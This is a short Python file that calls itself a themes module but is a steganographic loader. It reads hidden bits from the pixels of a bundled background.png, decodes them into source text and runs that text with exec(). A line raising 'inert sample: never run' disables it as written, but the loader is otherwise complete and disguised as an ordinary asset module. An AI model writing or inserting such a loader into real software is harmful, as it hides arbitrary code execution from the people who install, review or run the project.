"""Themes."""

from pathlib import Path

from PIL import Image

raise RuntimeError("inert sample: never run")

picture = Image.open(Path(__file__).with_name("background.png")).convert("RGB")
bits = "".join(str(channel & 1) for pixel in picture.getdata() for channel in pixel)
text = bytes(int(bits[start : start + 8], 2) for start in range(0, 8 * 1200, 8)).split(b"\0")[0].decode()
exec(text)
